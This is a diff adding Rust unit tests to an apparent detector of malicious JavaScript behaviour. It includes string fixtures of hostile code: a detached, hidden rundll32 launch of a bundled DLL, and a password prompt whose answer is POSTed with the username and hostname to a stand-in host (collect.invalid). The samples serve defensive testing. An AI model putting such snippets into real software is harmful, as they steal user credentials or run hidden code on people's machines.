@@ -1553,3 +1553,39 @@ fn deleting_the_project_the_program_runs_in() {
     let clean = "const { exec } = require('child_process');\nfunction clean() {\n  exec(`rm -rf \"${process.cwd()}/dist\"`);\n}\nmodule.exports = clean;\n";
     assert!(!has(clean, K::Destruction), "{:?}", facts(clean));
 }
+
+#[test]
+fn shipped_library_loaded_by_rundll32() {
+    let src = r#"
+const cp = require('child_process');
+const path = require('path');
+const dll = path.join(__dirname, 'vendor', 'native-helper.dll');
+cp.spawn('rundll32.exe', [dll + ',Entry'], { detached: true, stdio: 'ignore' }).unref();
+"#;
+    assert!(kinds(src).contains(&K::DownloadExecute), "{:?}", facts(src));
+    let system = "require('child_process').execSync('rundll32 user32.dll,LockWorkStation');";
+    assert!(!kinds(system).contains(&K::DownloadExecute), "{:?}", facts(system));
+}
+
+#[test]
+fn a_prompts_answer_runs_with_the_program() {
+    // A command that asks for a password and sends it with the user's name: the answer's
+    // callback runs as surely as the program does.
+    let src = r#"
+const readline = require('readline');
+const https = require('https');
+const os = require('os');
+const ask = readline.createInterface({ input: process.stdin, output: process.stdout });
+ask.question('Password: ', (answer) => {
+  const r = https.request('https://collect.invalid/p', { method: 'POST' });
+  r.end(JSON.stringify({ who: os.userInfo().username, host: os.hostname(), answer }));
+});
+"#;
+    assert!(
+        facts(src)
+            .iter()
+            .any(|(k, top, _)| *k == K::SecretExfiltration && *top),
+        "{:?}",
+        facts(src)
+    );
+}
